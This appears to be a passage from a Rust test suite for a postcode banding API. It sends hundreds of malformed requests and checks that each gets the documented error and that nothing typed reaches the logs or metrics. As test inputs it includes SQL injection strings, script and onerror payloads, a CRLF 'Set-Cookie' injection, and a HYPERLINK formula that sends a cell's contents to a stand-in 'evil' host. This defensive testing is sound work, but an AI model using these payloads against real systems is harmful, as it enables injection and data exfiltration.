            ["180", "-180", "-0"],
        ),
        (
            "easting",
            "northing=308352",
            ["-1", "800000.5", "1e7"],
            ["0", "800000", "-0"],
        ),
        (
            "northing",
            "easting=624073",
            ["-0.5", "1400001", "1e9"],
            ["0", "1400000", "+0.0"],
        ),
    ];
    for (field, other, out_of_range, in_range) in fields {
        for v in not_numbers {
            t.add(
                format!("{field}={v}"),
                get(&format!("/v1/lookup?{field}={v}&{other}&date=2019-06-01")),
                Error(400, "bad_number"),
            );
        }
        for v in not_finite.iter().chain(&out_of_range) {
            t.add(
                format!("{field}={v}"),
                get(&format!(
                    "/v1/lookup?{field}={}&{other}&date=2019-06-01",
                    enc(v)
                )),
                Error(400, "bad_coordinate"),
            );
        }
        // The ends of the range and negative zero are points (outside coverage or not: 200).
        for v in in_range {
            t.add(
                format!("{field}={v}"),
                get(&format!(
                    "/v1/lookup?{field}={}&{other}&date=2019-06-01",
                    enc(v)
                )),
                Answer(200),
            );
        }
    }
    // Texts that are not postcodes, as `postcode`, as `q` and in the path. The docs' table
    // says which code each gets: too long (over 300 characters) `too_long`; nothing
    // alphanumeric is `empty_text` for `q`, `bad_postcode` for a postcode; a formula start
    // (`=`, `+`, `-`, `@` after leading spaces) `formula_text`; anything else not a postcode
    // `bad_postcode`, except that `q` reads longer text without a postcode as a place
    // (`place_not_found`: MARK names none). /v1/postcodes/ reads its path as a full
    // postcode only (`bad_postcode`, or `partial_postcode` for a partial one).
    let long = format!("{MARK}{}", "A".repeat(301 - MARK.len()));
    let limit = format!("{MARK}{}", "A".repeat(300 - MARK.len()));
    let texts: Vec<(&str, String, (Expect, Expect, Expect))> = vec![
        (
            "301 characters",
            long,
            (
                Error(400, "too_long"),
                Error(400, "too_long"),
                Error(400, "bad_postcode"),
            ),
        ),
        (
            "300 characters",
            limit,
            (
                Error(400, "bad_postcode"),
                Error(404, "place_not_found"),
                Error(400, "bad_postcode"),
            ),
        ),
        (
            "only spaces",
            "     ".into(),
            (
                Error(400, "bad_postcode"),
                Error(400, "empty_text"),
                Error(400, "bad_postcode"),
            ),
        ),
        (
            "only emoji",
            "\u{1f3e0}\u{1f3e0}".into(),
            (
                Error(400, "bad_postcode"),
                Error(400, "empty_text"),
                Error(400, "bad_postcode"),
            ),
        ),
        (
            "emoji and the mark",
            format!("\u{1f3e0}{MARK}"),
            (
                Error(400, "bad_postcode"),
                Error(404, "place_not_found"),
                Error(400, "bad_postcode"),
            ),
        ),
        (
            "right-to-left override",
            format!("\u{202e}{MARK}"),
            (
                Error(400, "bad_postcode"),
                Error(404, "place_not_found"),
                Error(400, "bad_postcode"),
            ),
        ),
        (
            "zero-width space",
            format!("{MARK}\u{200b}"),
            (
                Error(400, "bad_postcode"),
                Error(404, "place_not_found"),
                Error(400, "bad_postcode"),
            ),
        ),
        (
            "SQL",
            format!("{MARK}' OR '1'='1"),
            (
                Error(400, "bad_postcode"),
                Error(404, "place_not_found"),
                Error(400, "bad_postcode"),
            ),
        ),
        (
            "SQL comment",
            format!("{MARK}'; DROP TABLE postcodes; --"),
            (
                Error(400, "bad_postcode"),
                Error(404, "place_not_found"),
                Error(400, "bad_postcode"),
            ),
        ),
        (
            "HTML",
            format!("<script>alert('{MARK}')</script>"),
            (
                Error(400, "bad_postcode"),
                Error(404, "place_not_found"),
                Error(400, "bad_postcode"),
            ),
        ),
        (
            "HTML attribute",
            format!("\"><img src=x onerror={MARK}>"),
            (
                Error(400, "bad_postcode"),
                Error(404, "place_not_found"),
                Error(400, "bad_postcode"),
            ),
        ),
        (
            "formula HYPERLINK",
            format!("=HYPERLINK(\"http://evil/?\"&A2,\"{MARK}\")"),
            (
                Error(400, "formula_text"),
                Error(400, "formula_text"),
                Error(400, "bad_postcode"),
            ),
        ),
        (
            "formula @",
            format!("@SUM({MARK})"),
            (
                Error(400, "formula_text"),
                Error(400, "formula_text"),
                Error(400, "bad_postcode"),
            ),
        ),
        (
            "formula +",
            format!("+{MARK}"),
            (
                Error(400, "formula_text"),
                Error(400, "formula_text"),
                Error(400, "bad_postcode"),
            ),
        ),
        (
            "formula - after spaces",
            format!("   -1+{MARK}"),
            (
                Error(400, "formula_text"),
                Error(400, "formula_text"),
                Error(400, "bad_postcode"),
            ),
        ),
        (
            "formula after a tab",
            format!("\t={MARK}"),
            (
                Error(400, "formula_text"),
                Error(400, "formula_text"),
                Error(400, "bad_postcode"),
            ),
        ),
        (
            "NUL",
            format!("{MARK}\u{0}"),
            (
                Error(400, "bad_postcode"),
                Error(404, "place_not_found"),
                Error(400, "bad_postcode"),
            ),
        ),
        (
            "CRLF",
            format!("{MARK}\r\nSet-Cookie: a=b"),
            (
                Error(400, "bad_postcode"),
                Error(404, "place_not_found"),
                Error(400, "bad_postcode"),
            ),
        ),
        (
            "a hyphen between the parts",
            "NR18-0UR".into(),
            (
                Error(400, "bad_postcode"),
                Error(400, "bad_postcode"),
                Error(400, "bad_postcode"),
            ),
        ),
        (
            "a space in the wrong place",
            "NR11 AA".into(),
            (
                Error(400, "bad_postcode"),
                Error(400, "bad_postcode"),
                Error(400, "bad_postcode"),
            ),
        ),
        (
            "O for 0",
            "PE3O 1EX".into(),
            (
                Error(400, "bad_postcode"),
                Error(400, "bad_postcode"),
                Error(400, "bad_postcode"),
            ),
        ),
        (
            "two postcodes",
            "NR1 1AA BS1 4DJ".into(),
            (
                Error(400, "bad_postcode"),
                Error(400, "bad_postcode"),
                Error(400, "bad_postcode"),
            ),
        ),
        (
            "unknown postcode",
            "NR1 1XX".into(),
            (
                Error(404, "postcode_not_found"),
                Error(404, "postcode_not_found"),
                Error(404, "postcode_not_found"),
            ),
        ),
        (
            "a district",
            "NR1".into(),
            (Answer(200), Answer(200), Error(400, "partial_postcode")),
        ),
    ];
    for (name, text, (as_postcode, as_q, in_path)) in texts {
        let e = enc(&text);
        t.add(
            format!("postcode: {name}"),
            get(&format!("/v1/lookup?postcode={e}&date=2019-06-01")),
            as_postcode,
        );
        t.add(
            format!("q: {name}"),
            get(&format!("/v1/lookup?q={e}&date=2019-06-01")),
            as_q,
        );
        t.add(
            format!("path: {name}"),
            get(&format!("/v1/postcodes/{e}")),
            in_path,
        );
    }
    // Dates, on the lookup and on band drawings (docs: `bad_date`); the range's ends and a
    // real 29 February are accepted.
    for d in bad_dates() {
        let e = enc(&d);
        t.add(
            format!("lookup date {d:?}"),
            get(&format!("/v1/lookup?postcode=NR1%201AA&date={e}")),
            Error(400, "bad_date"),
        );
        t.add(
            format!("bands date {d:?}"),
            get(&format!("/v1/schemes/norfolk/bands.geojson?date={e}")),
            Error(400, "bad_date"),
        );
    }
    for d in ["1990-01-01", "2100-12-31", "2020-02-29"] {
        t.add(
            format!("lookup date {d}"),
            get(&format!("/v1/lookup?postcode=NR1%201AA&date={d}")),
            Answer(200),
        );
    }
    // /v1/places: `q` required and at most 100 characters; `limit` a whole number 1 to 20
    // (docs: `missing_parameter`, `too_long`, `bad_limit`).
    t.add(
        "places without q",
        get("/v1/places"),
        Error(400, "missing_parameter"),
    );
    t.add(
        "places with only a limit",
        get("/v1/places?limit=3"),
        Error(400, "missing_parameter"),
    );
    t.add(
        "places q of 101 characters",
        get(&format!(
            "/v1/places?q={MARK}{}",
            "a".repeat(101 - MARK.len())
        )),
        Error(400, "too_long"),
    );
    t.add(
        "places q of 100 characters",
        get(&format!(
            "/v1/places?q={MARK}{}",
            "a".repeat(100 - MARK.len())
        )),
        Answer(200),
    );
    for limit in [
        "0",
        "21",
        "-1",
        "1.5",
        "ten",
        "",
        "99999999999999999999",
        "1e1",
        "0x5",
        "%00",
        MARK,
        "NaN",
        "inf",
    ] {
        t.add(
            format!("places limit {limit:?}"),
            get(&format!("/v1/places?q=heth&limit={limit}")),
            Error(400, "bad_limit"),
        );
    }
    for limit in ["1", "20"] {
        t.add(
            format!("places limit {limit}"),
            get(&format!("/v1/places?q=heth&limit={limit}")),
            Answer(200),
        );
    }
    // Schemes and layers that do not exist, and a scheme without bands (Bristol prices by
    // zone: docs, "Schemes").
    for (path, expect) in [
        (
            format!("/v1/schemes/{MARK}"),
            Error(404, "scheme_not_found"),
        ),
        (
            "/v1/schemes/NORFOLK".to_string(),
            Error(404, "scheme_not_found"),
        ),
        (
            "/v1/schemes/%00".to_string(),
            Error(404, "scheme_not_found"),
        ),
        (
            format!("/v1/schemes/{MARK}/layers/county.geojson"),
            Error(404, "scheme_not_found"),
        ),
        (
            format!("/v1/schemes/norfolk/layers/{MARK}.geojson"),
            Error(404, "layer_not_found"),
        ),
        (
            "/v1/schemes/norfolk/layers/.geojson".to_string(),
            Error(404, "no_route"),
        ),
        (
            "/v1/schemes/norfolk/layers/county.json".to_string(),
            Error(404, "no_route"),
        ),
        (
            format!("/v1/schemes/{MARK}/bands.geojson"),
            Error(404, "scheme_not_found"),
        ),
        (
            "/v1/schemes/bristol/bands.geojson".to_string(),
            Error(404, "scheme_not_banded"),
        ),
        (format!("/static/{MARK}.js"), Error(404, "no_such_file")),
        ("/static/".to_string(), Error(404, "no_route")),
        (format!("/v1/{MARK}"), Error(404, "no_route")),
    ] {
        t.add(format!("path {path}"), get(&path), expect);
    }
}

/// The POST routes: bodies and content types (docs: bulk lookups and `POST /v1/batch`).
fn post_routes(t: &mut Table) {
    // Bulk lookups must be sent as JSON (415 otherwise).
    for ct in [
        None,
        Some("text/plain"),
        Some("application/x-www-form-urlencoded"),
        Some("multipart/form-data; boundary=x"),
        Some("application/xml"),
        Some("text/csv"),
        Some(MARK),
    ] {
        t.add(
            format!("bulk as {ct:?}"),
            post("/v1/lookup", ct, br#"[{"postcode": "NR1 1AA"}]"#),
            Error(415, "unsupported_media_type"),
        );
    }
    // Not JSON: `bad_json`. An empty body, a UTF-16 body and a byte order mark are not JSON
    // text either (RFC 8259 §8.1: UTF-8, and a parser may refuse a BOM).
    let deep_arrays = format!("{}{}", "[".repeat(10_000), "]".repeat(10_000));
    let deep_objects = format!("{}1{}", "{\"a\":".repeat(5_000), "}".repeat(5_000));
    let utf16: Vec<u8> = "\u{feff}[{\"postcode\": \"NR1 1AA\"}]"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let utf16_no_bom: Vec<u8> = "[{\"postcode\": \"NR1 1AA\"}]"
        .encode_utf16()
        .flat_map(u16::to_be_bytes)
        .collect();
    let mut bom = b"\xef\xbb\xbf".to_vec();
    bom.extend_from_slice(br#"[{"postcode": "NR1 1AA"}]"#);
    let bodies: Vec<(&str, Vec<u8>)> = vec![
        ("empty", Vec::new()),
        ("an open bracket", b"[".to_vec()),
        ("an open brace", b"{".to_vec()),
        ("a missing value", br#"[{"postcode": }]"#.to_vec()),
        (
            "a trailing comma",
            br#"[{"postcode": "NR1 1AA"},]"#.to_vec(),
        ),
        ("single quotes", b"[{'postcode': 'NR1 1AA'}]".to_vec()),
        ("NaN", b"[{\"lat\": NaN, \"lon\": 1}]".to_vec()),
        (
            "a number out of range",
            b"[{\"lat\": 1e400, \"lon\": 1}]".to_vec(),
        ),
        (
            "garbage after",
            format!("[{{\"postcode\": \"NR1 1AA\"}}]{MARK}").into_bytes(),
        ),
        ("a bare word", MARK.as_bytes().to_vec()),
        ("invalid UTF-8", b"[{\"postcode\": \"\xff\xfe\"}]".to_vec()),
        (
            "a raw control character",
            b"[{\"postcode\": \"a\x01b\"}]".to_vec(),
        ),
        ("a lone surrogate", br#"[{"postcode": "\ud800"}]"#.to_vec()),
        ("a bad escape", br#"[{"postcode": "\x41"}]"#.to_vec()),
        (
            "a comment",
            b"[/* a */{\"postcode\": \"NR1 1AA\"}]".to_vec(),
        ),
        ("arrays 10,000 deep", deep_arrays.into_bytes()),
        ("objects 5,000 deep", deep_objects.into_bytes()),
        ("UTF-16 with a byte order mark", utf16),
        ("UTF-16 without one", utf16_no_bom),
        ("a UTF-8 byte order mark", bom),
    ];
    for (name, body) in bodies {
        t.add(
            format!("bulk body: {name}"),
            post("/v1/lookup", Some("application/json"), &body),
            Error(400, "bad_json"),
        );
    }
    // Valid JSON that is not an array of queries, or names a key twice: 422 (docs).
    for (name, body) in [
        ("an object", "{}".to_string()),
        ("a string", format!("\"{MARK}\"")),
        ("a number", "1".to_string()),
        ("null", "null".to_string()),
        ("true", "true".to_string()),
        (
            "a key twice",
            r#"[{"postcode": "NR1 1AA", "postcode": "BS1 4DJ"}]"#.to_string(),
        ),
        (
            "a key twice, deeper",
            format!(r#"[{{"postcode": "NR1 1AA"}}, {{"q": {{"a": "{MARK}", "a": 1}}}}]"#),
        ),
        (
            "a key twice in an object body",
            r#"{"postcode": "NR1 1AA", "postcode": "BS1 4DJ"}"#.to_string(),
        ),
    ] {
        t.add(
            format!("bulk body: {name}"),
            json_post(&body),
            Error(422, "unprocessable"),
        );
    }
    // More than 1,000 queries: 413 with the cap; 1,000 are answered, one by one.
    let items = |n: usize| format!("[{}]", vec!["{}"; n].join(","));
    t.add(
        "bulk of 1,001",
        json_post(&items(1001)),
        Error(413, "too_large"),
    );
    t.add(
        "bulk of 100,000",
        json_post(&items(100_000)),
        Error(413, "too_large"),
    );
    t.add(
        "bulk of 1,000",
        json_post(&items(1000)),
        Item("missing_query"),
    );
    // A query of the wrong shape or type fails inside the 200 (docs: `bad_item`, and the
    // GET codes for bad values).
    for (name, item, code) in [
        ("a number", "1".to_string(), "bad_item"),
        ("a string", "\"NR1 1AA\"".to_string(), "bad_item"),
        ("null", "null".to_string(), "bad_item"),
        ("an array", "[]".to_string(), "bad_item"),
        (
            "lat as a string",
            r#"{"lat": "52.6", "lon": 1.3}"#.to_string(),
            "bad_item",
        ),
        (
            "postcode as a number",
            r#"{"postcode": 5}"#.to_string(),
            "bad_item",
        ),
        (
            "postcode as an object",
            r#"{"postcode": {}}"#.to_string(),
            "bad_item",
        ),
        (
            "an unknown field",
            format!(r#"{{"{MARK}": 1}}"#),
            "bad_item",
        ),
        (
            "a misspelt field",
            r#"{"postcde": "NR1 1AA"}"#.to_string(),
            "bad_item",
        ),
        (
            "date as a number",
            r#"{"postcode": "NR1 1AA", "date": 20190601}"#.to_string(),
            "bad_item",
        ),
        (
            "a bad date",
            r#"{"postcode": "NR1 1AA", "date": "2019-6-1"}"#.to_string(),
            "bad_date",
        ),
        ("an empty object", "{}".to_string(), "missing_query"),
        (
            "lat without lon",
            r#"{"lat": 52.6}"#.to_string(),
            "missing_parameter",
        ),
        (
            "lat out of range",
            r#"{"lat": 91, "lon": 1.3}"#.to_string(),
            "bad_coordinate",
        ),
        (
            "easting negative",
            r#"{"easting": -1, "northing": 1}"#.to_string(),
            "bad_coordinate",
        ),
        (
            "a formula",
            format!(r#"{{"postcode": "=1+{MARK}"}}"#),
            "formula_text",
        ),
        (
            "two kinds",
            r#"{"postcode": "NR1 1AA", "q": "x"}"#.to_string(),
            "ambiguous_query",
        ),
        ("an empty q", r#"{"q": "  "}"#.to_string(), "empty_text"),
        (
            "a long postcode",
            format!(r#"{{"postcode": "{MARK}{}"}}"#, "A".repeat(300)),
            "too_long",
        ),
    ] {
        t.add(
            format!("bulk item: {name}"),
            json_post(&format!("[{item}]")),
            Item(code),
        );
    }
    // Bodies over the limit: a declared length is refused before reading; a body that is
    // really too large is refused as it arrives.
    let big = format!("[\"{MARK}{}\"]", "a".repeat(MAX_BODY));
    t.add(
        "bulk body over the limit",
        json_post(&big),
        Error(413, "too_large"),
    );
    // A body longer than its Content-Length: the rest is not part of it, and what is is not
    // JSON. A body shorter than it never ends: 408 (docs).
    let body = br#"[{"postcode": "NR1 1AA"}]"#;
    let with_length = |target: &str, ct: &str, len: usize, body: &[u8]| {
        request(
            &format!(
                "POST {target} HTTP/1.1\r\nHost: careband.test\r\nContent-Type: {ct}\r\nContent-Length: {len}\r\nConnection: close\r\n\r\n"
            ),
            body,
        )
    };
    t.add(
        "bulk body longer than its length",
        with_length("/v1/lookup", "application/json", 5, body),
        Error(400, "bad_json"),
    );
    t.add(
        "bulk body shorter than its length",
        with_length("/v1/lookup", "application/json", 100, body),
        Error(408, "request_timeout"),
    );
    t.add(
        "batch body shorter than its length",
        with_length(
            "/v1/batch?date=2019-06-01",
            "text/csv",
            100,
            b"postcode\nNR1 1AA\n",
        ),
        Error(408, "request_timeout"),
    );
    // POST /v1/batch: CSV or an .xlsx workbook only (415 for anything else, a macro-enabled
    // workbook and UTF-16 text included).
    let csv = "postcode\nNR1 1AA\n";
    for ct in [
        None,
        Some("text/plain"),
        Some("application/json"),
        Some("multipart/form-data; boundary=x"),
        Some("application/vnd.ms-excel.sheet.macroEnabled.12"),
        Some("application/x-www-form-urlencoded"),
        Some(MARK),
    ] {
        t.add(
            format!("batch as {ct:?}"),
            post("/v1/batch?date=2019-06-01", ct, csv.as_bytes()),
            Error(415, "unsupported_media_type"),
        );
    }
    t.add(
        "batch of CSV text sent as a workbook".to_string(),
        post(
            "/v1/batch?date=2019-06-01",
            Some("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
            csv.as_bytes(),
        ),
        Error(400, "bad_csv"),
    );
    let utf16: Vec<u8> = "\u{feff}postcode\nNR1 1AA\n"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let utf16_no_bom: Vec<u8> = "postcode\nNR1 1AA\n"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let workbook = {
        let mut book = rust_xlsxwriter::Workbook::new();
        book.add_worksheet().write_string(0, 0, "postcode").unwrap();
        book.save_to_buffer().unwrap()
    };
    for (name, body) in [
        ("UTF-16 with a byte order mark", utf16),
        ("UTF-16 without one", utf16_no_bom),
        ("a workbook", workbook),
    ] {
        t.add(
            format!("batch body: {name}"),
            post("/v1/batch?date=2019-06-01", Some("text/csv"), &body),
            Error(415, "unsupported_media_type"),
        );
    }
    for (name, body, expect) in [
        ("empty", String::new(), Error(400, "bad_csv")),
        (
            "no lookup column",
            format!("name,{MARK}\nx,1\n"),
            Error(400, "bad_columns"),
        ),
        (
            "an unclosed quote",
            format!("postcode,note\nNR1 1AA,\"{MARK}\n"),
            Error(400, "bad_csv"),
        ),
    ] {
        t.add(
            format!("batch body: {name}"),
            csv_post("/v1/batch?date=2019-06-01", &body),
            expect,
        );
    }
    for (query, expect) in [
        (format!("postcode_col={MARK}"), Error(400, "bad_columns")),
        (format!("{MARK}=1"), Error(400, "unknown_parameter")),
        (
            "postcode=NR1%201AA".to_string(),
            Error(400, "unknown_parameter"),
        ),
        (
            "date=2019-06-01&date=2019-06-01".to_string(),
            Error(400, "repeated_parameter"),
        ),
        (
            "summary=true&summary=true".to_string(),
            Error(400, "repeated_parameter"),
        ),
        ("delimiter=ab".to_string(), Error(400, "bad_parameter")),
        ("delimiter=%00".to_string(), Error(400, "bad_parameter")),
        ("excel=yes".to_string(), Error(400, "bad_parameter")),
        (format!("summary={MARK}"), Error(400, "bad_parameter")),
    ] {
        t.add(
            format!("batch ?{query}"),
            csv_post(&format!("/v1/batch?{query}"), csv),
            expect,
        );
    }
    for d in bad_dates() {
        t.add(
            format!("batch date {d:?}"),
            csv_post(&format!("/v1/batch?date={}", enc(&d)), csv),
            Error(400, "bad_date"),
        );
    }
    t.add(
        "batch Content-Length over 32 MiB",
        request(
            "POST /v1/batch HTTP/1.1\r\nHost: careband.test\r\nContent-Type: text/csv\r\nContent-Length: 33554433\r\nConnection: close\r\n\r\n",
            b"",
        ),
        Error(413, "too_large"),
    );
    // Methods: the POST routes do not take GET, the GET routes do not take POST (405), and
    // the reload route is off without an admin token (404).
    for (method, path, expect) in [
        ("GET", "/v1/batch", Error(405, "method_not_allowed")),
        (
            "POST",
            "/v1/places?q=heth",
            Error(405, "method_not_allowed"),
        ),
        ("POST", "/healthz", Error(405, "method_not_allowed")),
        ("POST", "/v1/schemes", Error(405, "method_not_allowed")),
        ("PUT", "/v1/lookup", Error(405, "method_not_allowed")),
        ("POST", "/admin/reload", Error(404, "no_route")),
    ] {
        t.add(
            format!("{method} {path}"),
            post_like(method, path, b"[]"),
            expect,
        );
    }
}

fn post_like(method: &str, path: &str, body: &[u8]) -> Vec<u8> {
    request(
        &format!(
            "{method} {path} HTTP/1.1\r\nHost: careband.test\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
            body.len()
        ),
        body,
    )
}

/// The server still answers: `/healthz`, and NR1 1AA's known answer (Band 1 on 1 June 2019,
/// docs/http-api.md).
async fn still_answering(addr: SocketAddr, after: &str) {
    let patience = Duration::from_secs(5);
    let health = exchange(addr, get("/healthz"), patience).await;
    assert_eq!(health.status, Some(200), "/healthz after {after}");
    let lookup = exchange(addr, get(&format!("/v1/lookup?{PC}")), patience).await;
    assert_eq!(lookup.status, Some(200), "lookup after {after}");
    let band = lookup.json().unwrap()["resolution"]["schemes"][0]["banding"]["band"]["name"]
        .as_str()
        .map(str::to_string);
    assert_eq!(band.as_deref(), Some("Band 1"), "lookup after {after}");
}

#[actix_web::test]
async fn the_malformed_request_table_is_answered_with_4xx_and_leaves_no_trace() {
    let mut server = Server::start(SERVER_ARGS);
    let addr = server.addr;
    let started = Instant::now();
    let families: [Family; 4] = [
        ("the request line", request_line),
        ("the headers", headers),
        ("the GET routes", get_routes),
        ("the POST routes", post_routes),
    ];
    let mut rows = 0;
    let mut failures = Vec::new();
    for (family, build) in families {
        let mut table = Table(Vec::new());
        build(&mut table);
        rows += table.0.len();
        let gate = Arc::new(tokio::sync::Semaphore::new(CONCURRENCY));
        let mut running = tokio::task::JoinSet::new();
        for case in table.0 {
            let gate = Arc::clone(&gate);
            running.spawn(async move {
                let _turn = gate.acquire_owned().await.unwrap();
                let reply = exchange(addr, case.request, Duration::from_secs(8)).await;
                reply
                    .mismatch(&case.expect)
                    .map(|why| format!("{}: expected {:?}, got {why}", case.name, case.expect))
            });
        }
        while let Some(result) = running.join_next().await {
            failures.extend(result.unwrap());
        }
        assert!(server.running(), "the server stopped during {family}");
        still_answering(addr, family).await;
    }
    failures.sort();
    assert!(
        failures.is_empty(),
        "{} of {rows} rows were not answered as expected:\n{}",
        failures.len(),
        failures.join("\n")
    );
    assert!(rows >= 450, "the table has {rows} rows");

    // Nothing typed reaches the metrics, whose labels come from closed sets.
    let metrics = exchange(addr, get("/metrics"), Duration::from_secs(5)).await;
    assert_eq!(metrics.status, Some(200));
    let text = String::from_utf8_lossy(&metrics.body).into_owned();
    let lower = text.to_lowercase();
    assert!(!lower.contains(&MARK.to_lowercase()), "{text}");
    let methods = [
        "GET", "HEAD", "POST", "PUT", "DELETE", "CONNECT", "OPTIONS", "TRACE", "PATCH", "other",
    ];
    let series: Vec<&str> = text
        .lines()
        .filter(|l| l.starts_with("careband_http_requests_total{"))
        .collect();
    for s in &series {
        let label = |name: &str| {
            s.split(&format!("{name}=\""))
                .nth(1)
                .and_then(|v| v.split('"').next())
                .unwrap_or_default()
                .to_string()
        };
        assert!(methods.contains(&label("method").as_str()), "{s}");
        let route = label("route");
        assert!(
            route == "unmatched"
                || careband::server::ROUTES
                    .iter()
                    .any(|(_, p)| *p == route || route.starts_with("/static/")),
            "{s}"
        );
    }
    // Bounded by methods x routes x statuses answered, whatever the table sent.
    assert!(series.len() <= 150, "{} request series", series.len());
    assert!(text.len() < 256 * 1024, "{} bytes of metrics", text.len());

    // Nothing typed reaches the log, and nothing panicked.
    let log = server.log();
    let typed = [
        MARK.to_string(),
        MARK.to_lowercase(),
        "HYPERLINK".to_string(),
        "<script".to_string(),
        "Set-Cookie".to_string(),
        "DROP TABLE".to_string(),
    ];
    for line in &log {
        assert!(!line.to_lowercase().contains("panic"), "{line}");
        for t in &typed {
            assert!(!line.contains(t.as_str()), "{t:?} reached the log: {line}");
        }
    }
    assert!(server.running());
    assert!(
        started.elapsed() < Duration::from_secs(30),
        "the table took {:?}",
        started.elapsed()
    );
}
